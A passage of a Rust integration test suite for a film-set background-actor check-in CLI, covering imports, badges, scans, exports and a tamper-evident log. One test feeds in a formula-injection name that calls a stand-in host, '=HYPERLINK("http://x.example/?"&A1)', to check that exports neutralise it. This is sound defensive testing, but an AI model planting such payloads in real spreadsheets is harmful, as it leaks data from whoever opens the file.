//! The `extras-kiosk` binary as a PA runs it: open a day, add areas, import
//! the skin, read the status; bad input exits non-zero with the problems.

use super::common;

use common::fixture;
use std::path::Path;
use std::process::{Command, Output};

pub(super) fn kiosk(db: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_extras-kiosk"))
        .args(args)
        .env("EXTRAS_KIOSK_DB", db)
        .env_remove("EXTRAS_KIOSK_ID")
        .output()
        .expect("the binary runs")
}

pub(super) fn ok(db: &Path, args: &[&str]) -> String {
    let out = kiosk(db, args);
    assert!(
        out.status.success(),
        "{args:?} failed: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// Opens 2026-11-28 (call 06:30, Los Angeles) through the binary.
fn open_demo_date(db: &Path) {
    open_demo_date_as(db, &[]);
}

/// The same, with global options first (`--kiosk`, `--name`).
pub(super) fn open_demo_date_as(db: &Path, global: &[&str]) {
    let mut args = global.to_vec();
    args.extend([
        "day",
        "open",
        "--date",
        "2026-11-28",
        "--title",
        "Harbor Lights Ep 104",
        "--call",
        "06:30",
        "--tz",
        "America/Los_Angeles",
    ]);
    ok(db, &args);
}

/// The demo day through the binary: opened (call 06:30, Los Angeles), its
/// skin imported, and its holding areas when `areas` is set.
fn demo_day(db: &Path, areas: bool) {
    open_demo_date(db);
    if areas {
        demo_areas(db);
    }
    ok(db, &["import", fixture("demo/skin.csv").to_str().unwrap()]);
}

fn demo_areas(db: &Path) {
    ok(
        db,
        &[
            "areas",
            "import",
            fixture("demo/areas.csv").to_str().unwrap(),
        ],
    );
}

/// The demo's holding areas and skin imported into a day already open.
pub(super) fn demo_areas_and_skin(db: &Path) {
    demo_areas(db);
    ok(db, &["import", fixture("demo/skin.csv").to_str().unwrap()]);
}

/// The lead (kiosk `base`, "Base camp") with the demo day, its areas and
/// skin, through the binary.
pub(super) fn base_camp(db: &Path) {
    open_demo_date_as(db, &["--kiosk", "base", "--name", "Base camp"]);
    demo_areas_and_skin(db);
}

#[test]
fn a_meal_left_open_at_release_is_ended_at_its_time_and_errors_say_what_next() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    demo_day(&db, true);
    ok(&db, &["checkin", "--badge", "B-0001", "--at", "06:30"]);
    ok(
        &db,
        &["meal", "start", "--badge", "B-0001", "--at", "12:00"],
    );
    ok(&db, &["release", "--badge", "B-0001", "--at", "18:00"]);
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let refused = kiosk(
        &db,
        &["export", "--out", out.to_str().unwrap(), "--allow-open"],
    );
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(!refused.status.success());
    assert!(
        said.contains("extras-kiosk meal end --badge B-0001 --at HH:MM"),
        "the hint names the badge: {said}"
    );
    // Not after the release; at the time it ended, yes.
    let late = kiosk(&db, &["meal", "end", "--badge", "B-0001", "--at", "19:00"]);
    let said = String::from_utf8_lossy(&late.stderr);
    assert!(
        said.contains("after their release at 18:00: give the time it ended"),
        "{said}"
    );
    ok(&db, &["meal", "end", "--badge", "B-0001", "--at", "12:30"]);
    ok(
        &db,
        &["export", "--out", out.to_str().unwrap(), "--allow-open"],
    );
    // A cause is said once, with what to do.
    let file = dir.path().join("file");
    std::fs::write(&file, "").unwrap();
    let nowhere = kiosk(&file.join("kiosk.db"), &["status"]);
    let said = String::from_utf8_lossy(&nowhere.stderr);
    assert_eq!(said.matches("os error").count(), 1, "{said}");
    assert!(said.contains("choose another folder"), "{said}");
}

#[test]
fn a_commands_name_never_renames_the_kiosk() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    open_demo_date_as(&db, &["--kiosk", "base", "--name", "Base camp"]);
    ok(&db, &["areas", "add", "Holding A", "--capacity", "40"]);
    let mut add = Command::new(env!("CARGO_BIN_EXE_extras-kiosk"))
        .args([
            "web",
            "user",
            "add",
            "Sam Lee",
            "--role",
            "viewer",
            "--password-stdin",
        ])
        .env("EXTRAS_KIOSK_DB", &db)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    writeln!(add.stdin.take().unwrap(), "coffee-at-the-church-26").unwrap();
    assert!(add.wait().unwrap().success());
    let kiosks = ok(&db, &["kiosks"]);
    assert!(kiosks.contains("base (Base camp), lead"), "{kiosks}");
    // The global option still names it, before or after the command.
    ok(&db, &["areas", "list", "--name", "Tent by the church"]);
    let kiosks = ok(&db, &["kiosks"]);
    assert!(kiosks.contains("base (Tent by the church)"), "{kiosks}");
}

#[test]
fn a_pa_sets_up_the_demo_day_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    let skin = fixture("demo/skin.csv");
    let areas = fixture("demo/areas.csv");

    let out = kiosk(&db, &["status"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("day open"),
        "says what to do"
    );

    let opened = ok(
        &db,
        &[
            "day",
            "open",
            "--date",
            "2026-11-28",
            "--title",
            "Harbor Lights Ep 104",
            "--location",
            "Stage 5",
            "--call",
            "06:30",
            "--tz",
            "America/Los_Angeles",
        ],
    );
    assert!(opened.contains("Opened Sat 28 Nov 2026"), "{opened}");
    ok(&db, &["areas", "import", areas.to_str().unwrap()]);
    ok(
        &db,
        &[
            "areas",
            "add",
            "Overflow",
            "--capacity",
            "40",
            "--location",
            "Gym",
            "--non-union-only",
        ],
    );
    let list = ok(&db, &["areas", "list"]);
    assert!(
        list.contains("Holding A") && list.contains("Overflow") && list.contains("non-union only"),
        "{list}"
    );

    let imported = ok(&db, &["import", skin.to_str().unwrap()]);
    assert!(
        imported.contains("170 added, 0 updated, 0 unchanged, 0 removed"),
        "{imported}"
    );

    // --db after the subcommand works as well as before it.
    let other = dir.path().join("other.db");
    let json = Command::new(env!("CARGO_BIN_EXE_extras-kiosk"))
        .args(["status", "--json", "--at", "07:00", "--db"])
        .arg(&db)
        .env("EXTRAS_KIOSK_DB", &other)
        .output()
        .unwrap();
    assert!(
        json.status.success(),
        "{}",
        String::from_utf8_lossy(&json.stderr)
    );
    let status: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(status["date"], "2026-11-28");
    assert_eq!(status["booked"], 170);
    assert_eq!(status["arrived"], 0);
    assert_eq!(status["in_holding"], 0);
    assert_eq!(status["released"], 0);
    assert_eq!(status["late"], 0);
    let seven = chrono::NaiveTime::from_hms_opt(7, 0, 0).unwrap();
    let calls_by_seven = csv::Reader::from_path(&skin)
        .unwrap()
        .records()
        .filter(|r| {
            extras_kiosk::model::parse_clock(&r.as_ref().unwrap()[5])
                .unwrap()
                .time
                <= seven
        })
        .count();
    assert_eq!(
        status["missing"], calls_by_seven as u64,
        "everyone called by 07:00"
    );
    let areas = status["areas"].as_array().unwrap();
    assert_eq!(areas.len(), 4);
    assert_eq!(areas[1]["name"], "Holding A");
    assert_eq!(areas[1]["capacity"], 90);
    assert_eq!(areas[1]["present"], 0);
    assert!(!other.exists(), "--db wins over the environment");

    let text = ok(&db, &["status", "--at", "05:00"]);
    assert!(text.contains("as of 05:00 (America/Los_Angeles)"), "{text}");
    assert!(text.contains("booked 170"), "{text}");
}

#[test]
fn a_bad_skin_exits_non_zero_naming_every_problem() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    ok(
        &db,
        &[
            "day",
            "open",
            "--date",
            "2026-11-28",
            "--title",
            "T",
            "--tz",
            "UTC",
        ],
    );
    let bad = fixture("skins/bad-time.csv");
    let out = kiosk(&db, &["import", bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    for line in [3, 4, 5] {
        assert!(
            stderr.contains(&format!("bad-time.csv:{line}: call_time: not a time")),
            "{stderr}"
        );
    }
    assert!(stderr.contains("nothing was imported"), "{stderr}");
    let status = ok(&db, &["status", "--json"]);
    assert!(status.contains("\"booked\": 0"), "{status}");

    let out = kiosk(&db, &["status", "--at", "soonish"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("HH:MM"));
    let out = kiosk(
        &db,
        &["day", "open", "--date", "2026-11-31", "--title", "x"],
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("YYYY-MM-DD"));
    let out = kiosk(&db, &["day", "open", "--tz", "Mars/Olympus"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("IANA time zone"));
}

#[test]
fn badges_are_written_verified_reissued_and_voided_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    demo_day(&db, false);

    let png_dir = dir.path().join("png");
    let out = ok(
        &db,
        &[
            "badges",
            "--png-dir",
            png_dir.to_str().unwrap(),
            "--badge",
            "B-0001",
            "--badge",
            "B-0003",
        ],
    );
    assert!(out.contains("Wrote 2 badge PNGs"), "{out}");
    let pdf = dir.path().join("cards.pdf");
    let out = ok(
        &db,
        &[
            "badges",
            "--pdf",
            pdf.to_str().unwrap(),
            "--paper",
            "cr80",
            "--badge",
            "B-0001",
        ],
    );
    assert!(out.contains("Wrote 1 badge on 1 page"), "{out}");
    assert!(pdf.exists() && !dir.path().join("cards.pdf.part").exists());

    // What a scanner reads off the printed badge is what the kiosk accepts.
    let scanned = Command::new("zbarimg")
        .args(["--quiet", "--raw"])
        .arg(png_dir.join("B-0001.png"))
        .output()
        .unwrap();
    let payload = String::from_utf8(scanned.stdout)
        .unwrap()
        .trim()
        .to_string();
    let verdict = ok(&db, &["token", "verify", &payload]);
    assert!(
        verdict.starts_with("valid: B-0001 Pat O'Brien (issue 1)"),
        "{verdict}"
    );

    let out = ok(&db, &["badge", "reissue", "B-0001", "--reason", "lost"]);
    assert!(
        out.contains("Reissued B-0001") && out.contains("issue 2"),
        "{out}"
    );
    let refused = kiosk(&db, &["token", "verify", &payload]);
    assert_eq!(refused.status.code(), Some(1));
    assert_eq!(
        String::from_utf8_lossy(&refused.stdout).trim(),
        "refused (voided): This badge was replaced: please see the PA"
    );
    let garbage = kiosk(&db, &["token", "verify", "hello"]);
    assert!(String::from_utf8_lossy(&garbage.stdout).starts_with("refused (malformed)"));

    ok(
        &db,
        &["badge", "void", "B-0003", "--reason", "left the set"],
    );
    let no_reason = kiosk(&db, &["badge", "void", "B-0003", "--reason", " "]);
    assert!(String::from_utf8_lossy(&no_reason.stderr).contains("a reason is required"));
    let unknown = kiosk(&db, &["badge", "reissue", "B-9999", "--reason", "lost"]);
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("no badge B-9999"));
    let missing_output = kiosk(&db, &["badges"]);
    assert!(!missing_output.status.success());

    // Printing says clearly when there is no CUPS on the machine.
    if Command::new("lp").arg("-h").output().is_err() {
        let printed = kiosk(
            &db,
            &[
                "badges",
                "--pdf",
                pdf.to_str().unwrap(),
                "--badge",
                "B-0002",
                "--print",
            ],
        );
        assert!(!printed.status.success());
        let stderr = String::from_utf8_lossy(&printed.stderr);
        assert!(
            stderr.contains("no printing system (CUPS `lp`)") && stderr.contains("cards.pdf"),
            "{stderr}"
        );
    }
}

#[test]
fn scans_releases_and_the_log_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    demo_day(&db, true);
    let payload = payload_of(&db, dir.path(), "B-0001");

    let json =
        |args: &[&str]| -> serde_json::Value { serde_json::from_str(&ok(&db, args)).unwrap() };
    let keys = [
        "outcome",
        "badge",
        "name",
        "area",
        "late_minutes",
        "since",
        "reason",
        "message",
        "notices",
    ];
    let first = json(&["scan", &payload, "--at", "05:41", "--json"]);
    for key in keys {
        assert!(first.get(key).is_some(), "{key} missing from {first}");
    }
    assert_eq!(first["outcome"], "checked_in");
    assert_eq!(first["badge"], "B-0001");
    assert_eq!(first["name"], "Pat O'Brien");
    assert_eq!(first["area"], "Holding A");
    assert_eq!(first["late_minutes"], 11);
    assert_eq!(first["reason"], serde_json::Value::Null);

    let again = json(&["scan", &payload, "--at", "05:45", "--json"]);
    assert_eq!(
        (again["outcome"].as_str(), again["since"].as_str()),
        (Some("already_checked_in"), Some("2026-11-28T05:41"))
    );
    let bad = json(&["scan", "EK1:XXXX", "--json"]);
    assert_eq!(
        (bad["outcome"].as_str(), bad["reason"].as_str()),
        (Some("refused"), Some("malformed"))
    );

    ok(&db, &["checkin", "--badge", "B-0002", "--at", "06:20"]);
    ok(
        &db,
        &[
            "move", "--badge", "B-0002", "--area", "Near Set", "--at", "07:00",
        ],
    );
    let out = json(&[
        "scan", &payload, "--mode", "checkout", "--at", "04:10+1", "--json",
    ]);
    assert_eq!(
        (out["outcome"].as_str(), out["since"].as_str()),
        (Some("released"), Some("2026-11-29T04:10"))
    );
    let released = ok(&db, &["release", "--all", "--at", "04:30+1"]);
    assert!(released.contains("Released 1 at 04:30+1"), "{released}");
    let status: serde_json::Value =
        serde_json::from_str(&ok(&db, &["status", "--json", "--at", "05:00+1"])).unwrap();
    assert_eq!(
        (status["arrived"].as_u64(), status["released"].as_u64()),
        (Some(2), Some(2))
    );

    let log = ok(&db, &["log", "--badge", "B-0001", "--verify"]);
    assert!(
        log.contains("checked_in") && log.contains("released") && log.contains("The log is intact"),
        "{log}"
    );
    let copy = dir.path().join("wrap.db");
    ok(&db, &["backup", copy.to_str().unwrap()]);
    assert!(
        !kiosk(&db, &["backup", copy.to_str().unwrap()])
            .status
            .success(),
        "never overwrites"
    );
    let from_copy = kiosk(&copy, &["log", "--verify"]);
    assert!(from_copy.status.success());

    // An edited row: log --verify exits non-zero.
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute_batch("DROP TRIGGER events_are_never_updated; UPDATE events SET happened_at = '2026-11-28T13:00:00Z' WHERE kind = 'checked_in';").unwrap();
    drop(conn);
    let broken = kiosk(&db, &["log", "--verify"]);
    assert_eq!(broken.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&broken.stderr).contains("BROKEN"));
}

/// A whole shoot day replayed from the command line, as a script would:
/// arrivals, an NDB, meals per area, a walk-in, a move, a correction, a
/// mistaken release taken back, releases per area after midnight.
#[test]
fn a_whole_day_replays_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    demo_day(&db, true);
    let png_dir = dir.path().join("png");
    ok(&db, &["badges", "--png-dir", png_dir.to_str().unwrap()]);
    let mut payloads: Vec<(String, String)> = Vec::new();
    for entry in std::fs::read_dir(&png_dir).unwrap() {
        let path = entry.unwrap().path();
        let out = Command::new("zbarimg")
            .args(["--quiet", "--raw"])
            .arg(&path)
            .output()
            .unwrap();
        let badge = path.file_stem().unwrap().to_string_lossy().to_string();
        payloads.push((
            badge,
            String::from_utf8(out.stdout).unwrap().trim().to_string(),
        ));
    }
    payloads.sort();
    assert_eq!(payloads.len(), 170);

    // Everyone but the last ten arrives between 05:20 and 07:59.
    for (i, (_, payload)) in payloads.iter().enumerate().take(160) {
        let at = format!("{:02}:{:02}", 5 + (20 + i) / 60, (20 + i) % 60);
        let out: serde_json::Value =
            serde_json::from_str(&ok(&db, &["scan", payload, "--at", &at, "--json"])).unwrap();
        assert_eq!(out["outcome"], "checked_in", "{out}");
    }
    ok(
        &db,
        &[
            "meal", "start", "--ndb", "--badge", "B-0001", "--at", "06:00",
        ],
    );
    ok(
        &db,
        &["meal", "end", "--ndb", "--badge", "B-0001", "--at", "06:15"],
    );
    ok(
        &db,
        &[
            "walkin",
            "--first",
            "Aiko",
            "--last",
            "Sato",
            "--category",
            "general",
            "--non-union",
            "--at",
            "09:00",
        ],
    );
    ok(&db, &["checkin", "--badge", "B-0171", "--at", "09:05"]);
    ok(
        &db,
        &[
            "move",
            "--badge",
            "B-0171",
            "--area",
            "Holding A",
            "--at",
            "09:10",
        ],
    );
    for area in ["Near Set", "Holding A", "Holding B"] {
        let started = ok(&db, &["meal", "start", "--area", area, "--at", "12:30"]);
        assert!(started.starts_with("Meal started for"), "{started}");
        ok(&db, &["meal", "end", "--area", area, "--at", "13:00"]);
    }
    ok(
        &db,
        &[
            "correct",
            "--badge",
            "B-0002",
            "--field",
            "meal1_in",
            "--to",
            "13:10",
            "--reason",
            "came back late from lunch",
        ],
    );
    ok(&db, &["release", "--badge", "B-0003", "--at", "17:00"]);
    ok(
        &db,
        &[
            "undo",
            "--badge",
            "B-0003",
            "--release",
            "--reason",
            "still needed on set",
        ],
    );
    let out = ok(&db, &["release", "--area", "Holding B", "--at", "23:45"]);
    assert!(out.starts_with("Released "), "{out}");
    ok(&db, &["release", "--all", "--at", "01:10+1"]);

    let status: serde_json::Value =
        serde_json::from_str(&ok(&db, &["status", "--json", "--at", "02:00+1"])).unwrap();
    assert_eq!(status["booked"], 171);
    assert_eq!(status["arrived"], 161);
    assert_eq!(status["released"], 161);
    assert_eq!(status["in_holding"], 0);
    assert_eq!(status["missing"], 10);
    let log = ok(&db, &["log", "--badge", "B-0003", "--verify"]);
    for kind in [
        "checked_in",
        "meal_started",
        "meal_ended",
        "released",
        "release_undone",
    ] {
        assert!(log.contains(kind), "{kind} missing from\n{log}");
    }
    assert!(log.contains("01:10"), "the night's release: {log}");
    assert!(log.contains("The log is intact"));

    // Wrap: the export, and every file opened.
    let stick = dir.path().join("stick");
    std::fs::create_dir(&stick).unwrap();
    let out = ok(&db, &["export", "--out", stick.to_str().unwrap()]);
    assert!(
        out.contains("171 vouchers: 161 released, 0 not released, 10 no-shows"),
        "{out}"
    );
    let csv_text = std::fs::read_to_string(stick.join("vouchers-2026-11-28.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    assert_eq!(
        reader
            .headers()
            .unwrap()
            .iter()
            .collect::<Vec<_>>()
            .join(","),
        "date,badge,last_name,first_name,category,union,rate,call,in,holding_area,ndb_out,ndb_in,\
         meal1_out,meal1_in,meal2_out,meal2_in,out,hours_worked,hours_straight,hours_ot_1_5x,\
         hours_ot_2x,meal_penalties,meal_penalty_amount,bumps,bump_amount,gross,status,corrections,\
         paperwork,upgraded,items_out,dispute,approved_by,approved_at"
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 171);
    let keys: Vec<(String, String, String)> = rows
        .iter()
        .map(|r| (r[2].to_lowercase(), r[3].to_lowercase(), r[1].to_string()))
        .collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted, "sorted by last name, first name, badge");
    let row = |badge: &str| rows.iter().find(|r| &r[1] == badge).unwrap().clone();
    let first = row("B-0001");
    assert_eq!((&first[10], &first[11]), ("06:00", "06:15"), "the NDB");
    assert_eq!(&first[16], "01:10+1", "released after midnight");
    assert_eq!(&first[26], "released");
    let corrected = row("B-0002");
    assert_eq!((&corrected[12], &corrected[13]), ("12:30", "13:10"));
    assert_eq!(&corrected[27], "1", "one correction");
    let walk_in = row("B-0171");
    assert_eq!((&walk_in[5], &walk_in[9]), ("non-union", "Holding A"));
    assert_eq!(rows.iter().filter(|r| &r[26] == "no_show").count(), 10);
    let gross: i64 = rows
        .iter()
        .map(|r| {
            extras_kiosk::model::Money::parse_rate(&r[25])
                .unwrap()
                .cents()
        })
        .sum();

    let count = std::fs::read_to_string(stick.join("background-count-2026-11-28.csv")).unwrap();
    let lines: Vec<&str> = count.lines().collect();
    assert_eq!(
        lines[0],
        "category,union,booked,arrived,late,no_show,walk_ins,released"
    );
    assert_eq!(lines.len(), 1 + 8 + 1);
    assert!(
        lines[9].starts_with("total,,171,161,") && lines[9].ends_with(",10,1,161"),
        "{}",
        lines[9]
    );

    use calamine::{Data, Reader, Xlsx, open_workbook};
    let mut book: Xlsx<_> = open_workbook(stick.join("vouchers-2026-11-28.xlsx")).unwrap();
    let sheet = book.worksheet_range("Vouchers").unwrap();
    assert_eq!(sheet.height(), 1 + 171 + 1, "header, vouchers, totals");
    let total = sheet.get((172, 25)).unwrap();
    assert!(
        matches!(total, Data::Float(f) if (f * 100.0).round() as i64 == gross),
        "{total:?} against {gross}"
    );
    let time_cell = sheet.get((1, 7)).unwrap();
    assert!(
        matches!(time_cell, Data::Float(_) | Data::DateTime(_)),
        "times are typed: {time_cell:?}"
    );

    let pdf = stick.join("vouchers-2026-11-28.pdf");
    let info = Command::new("pdfinfo").arg(&pdf).output().unwrap();
    let info = String::from_utf8_lossy(&info.stdout);
    let pages = info
        .lines()
        .find_map(|l| l.strip_prefix("Pages:"))
        .map(|n| n.trim().to_string());
    assert_eq!(
        pages.as_deref(),
        Some("172"),
        "summary + 171 vouchers: {info}"
    );
    let png = dir.path().join("page");
    let status = Command::new("pdftoppm")
        .args(["-png", "-r", "40", "-f", "1", "-l", "2"])
        .arg(&pdf)
        .arg(&png)
        .status()
        .unwrap();
    assert!(status.success());
    for page in ["page-001.png", "page-002.png"] {
        let size = std::fs::metadata(dir.path().join(page)).map_or(0, |m| m.len());
        assert!(size > 1000, "{page}: {size} bytes");
    }
    let text = Command::new("pdftotext")
        .arg(&pdf)
        .arg("-")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("BACKGROUND VOUCHER") && text.contains("AD's signature"));

    let purged = ok(&db, &["purge", "--date", "2026-11-28"]);
    assert!(purged.starts_with("Removed the phone numbers"), "{purged}");
}

#[test]
fn the_union_count_and_the_hints_a_terminal_gets() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    demo_day(&db, true);
    let set = ok(&db, &["day", "union-required", "40"]);
    assert!(set.contains("needs 40 union background"), "{set}");
    let settings: String = rusqlite::Connection::open(&db)
        .unwrap()
        .query_row(
            "SELECT value FROM settings WHERE key = 'union_required.2026-11-28'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(settings, "40");
    let bad = kiosk(&db, &["day", "union-required", "lots"]);
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a number of people"));
    ok(&db, &["day", "union-required", "none"]);
    // The core words an error without flags; the terminal adds the command.
    let no_reason = kiosk(&db, &["badge", "void", "B-0003", "--reason", " "]);
    let text = String::from_utf8_lossy(&no_reason.stderr);
    assert!(text.contains("a reason is required"), "{text}");
    assert!(text.contains("add --reason"), "{text}");
    let moved = kiosk(&db, &["move", "--badge", "B-0001", "--area", "Nowhere"]);
    let text = String::from_utf8_lossy(&moved.stderr);
    assert!(text.contains("no holding area named 'Nowhere'"), "{text}");
    assert!(text.contains("extras-kiosk areas list"), "{text}");
}

/// Opens the demo day with no skin; returns the binary's stderr of `import`.
fn import_only(db: &Path, skin: &Path) -> Output {
    open_demo_date(db);
    kiosk(db, &["import", skin.to_str().unwrap()])
}

fn booked_names(db: &Path) -> Vec<(String, String)> {
    let conn = rusqlite::Connection::open(db).unwrap();
    let mut stmt = conn
        .prepare(
            "SELECT p.first_name, p.last_name FROM bookings b JOIN people p ON p.id = b.person_id
             ORDER BY b.badge_no",
        )
        .unwrap();
    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

fn pair(first: &str, last: &str) -> (String, String) {
    (first.to_string(), last.to_string())
}

/// Imports `skin` into a fresh day; returns the names booked and what the
/// import said on standard error.
fn import_names(skin: &Path) -> (Vec<(String, String)>, String) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    let out = import_only(&db, skin);
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "{stderr}");
    (booked_names(&db), stderr)
}

#[test]
fn skins_as_excel_saves_them_import_with_their_accents() {
    let accented = vec![pair("José", "Muñoz"), pair("Zoë", "Núñez")];
    // Windows-1252 with CRLF ("CSV (Comma delimited)" on Windows).
    let (names, stderr) = import_names(&fixture("skins/excel-windows-1252.csv"));
    assert!(
        stderr.contains("read as Windows-1252, as Excel's CSV is; check the accented names")
            && stderr.contains("José"),
        "{stderr}"
    );
    assert_eq!(names, accented);
    // UTF-16LE with a byte-order mark, tab-separated ("Unicode Text").
    let (names, _) = import_names(&fixture("skins/excel-unicode-text.txt"));
    assert_eq!(names[..2], accented[..]);
    assert_eq!(names[2], pair("王", "芳"));
    // XLSX with two title rows and a blank row above the header.
    assert_eq!(import_names(&fixture("skins/title-rows.xlsx")).0, accented);

    // A tab-separated UTF-8 file named .tsv, and an areas file in Windows-1252.
    let dir = tempfile::tempdir().unwrap();
    let tsv = dir.path().join("skin.tsv");
    std::fs::write(
        &tsv,
        "first_name\tlast_name\tcategory\tunion\tcall_time\nAna\tLopez, Jr\tBG\tSAG\t06:30\n",
    )
    .unwrap();
    let db = dir.path().join("tsv.db");
    let out = import_only(&db, &tsv);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(booked_names(&db), vec![pair("Ana", "Lopez, Jr")]);
    let areas = dir.path().join("areas.csv");
    std::fs::write(&areas, b"name,capacity\r\nCarpa S\xe1nchez,40\r\n").unwrap();
    ok(&db, &["areas", "import", areas.to_str().unwrap()]);
    assert!(ok(&db, &["areas", "list"]).contains("Carpa Sánchez"));
}

#[test]
fn an_xlsx_with_no_header_in_its_first_rows_names_the_rows_looked_at() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("no-header.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write(0, 0, "Casting call").unwrap();
    sheet.write(2, 0, "Names").unwrap();
    sheet.write(2, 1, "Kinds").unwrap();
    sheet.write(3, 0, "Ana Lopez").unwrap();
    sheet.write(3, 1, "BG").unwrap();
    book.save(&path).unwrap();
    let db = dir.path().join("kiosk.db");
    let out = import_only(&db, &path);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("no row from 1 to 10"), "{stderr}");
    assert!(stderr.contains("no-header.xlsx:1:"), "{stderr}");
    assert!(booked_names(&db).is_empty(), "nothing imported");
}

#[test]
fn names_that_look_like_formulas_import_as_given_and_export_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    let out = import_only(&db, &fixture("skins/formula-names.csv"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("lines 2, 3, 4, 5, 6 begin with =, +, -, @"),
        "the warning names the lines: {stderr}"
    );
    let names = booked_names(&db);
    assert_eq!(
        names[0].0, "=HYPERLINK(\"http://x.example/?\"&A1)",
        "kept as given"
    );
    assert_eq!(names[4].1, "=1+1");

    let out_dir = dir.path().join("out");
    std::fs::create_dir(&out_dir).unwrap();
    ok(
        &db,
        &[
            "export",
            "--out",
            out_dir.to_str().unwrap(),
            "--format",
            "csv,xlsx",
            "--allow-open",
        ],
    );
    let csv_path = out_dir.join("vouchers-2026-11-28.csv");
    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
    let mut seen = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula in the CSV: {cell}"
            );
            seen += 1;
        }
    }
    assert!(seen > 0);
    let text = std::fs::read_to_string(&csv_path).unwrap();
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(text.contains("'@SUM(A1)"), "{text}");
    let count = std::fs::read_to_string(out_dir.join("background-count-2026-11-28.csv")).unwrap();
    assert!(count.starts_with("category,union,"), "{count}");

    use calamine::{Reader, Xlsx, open_workbook};
    let mut book: Xlsx<_> = open_workbook(out_dir.join("vouchers-2026-11-28.xlsx")).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    let cells: Vec<String> = sheet.cells().map(|(_, _, c)| c.to_string()).collect();
    for (first, last) in &names {
        assert!(cells.contains(first), "the XLSX holds {first} exactly");
        assert!(cells.contains(last), "the XLSX holds {last} exactly");
    }
    assert!(!cells.iter().any(|c| c.starts_with("'=")));
}

#[test]
fn a_name_too_long_for_a_badge_is_cut_with_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("kiosk.db");
    let out = import_only(&db, &fixture("skins/long-names.csv"));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let pdf = dir.path().join("badges.pdf");
    let out = kiosk(&db, &["badges", "--pdf", pdf.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "still exits 0: {stderr}");
    assert!(stderr.contains("B-0001: first name cut to fit"), "{stderr}");
    assert!(stderr.contains("B-0002: last name cut to fit"), "{stderr}");
    // A real long name (30 and 41 characters) is cut too, still readable.
    assert!(stderr.contains("B-0003: first name cut to fit"), "{stderr}");
    let text = Command::new("pdftotext")
        .args([pdf.to_str().unwrap(), "-"])
        .output()
        .expect("pdftotext (poppler-utils) is installed");
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("Maximiliana-Alex…"), "{text}");
    assert!(text.contains('…'), "{text}");
}

fn kiosk_row(db: &Path) -> (String, Option<String>) {
    let conn = rusqlite::Connection::open(db).unwrap();
    conn.query_row("SELECT kiosk_id, name FROM kiosk", [], |r| {
        Ok((r.get(0)?, r.get(1)?))
    })
    .unwrap()
}

#[test]
fn a_database_is_one_kiosk_its_id_fixed_when_made() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("base.db");
    open_demo_date_as(&db, &["--kiosk", "base-camp", "--name", "Base camp"]);
    assert_eq!(
        kiosk_row(&db),
        ("base-camp".to_string(), Some("Base camp".to_string()))
    );
    // Later commands need no id, and the same id is welcome.
    ok(&db, &["status"]);
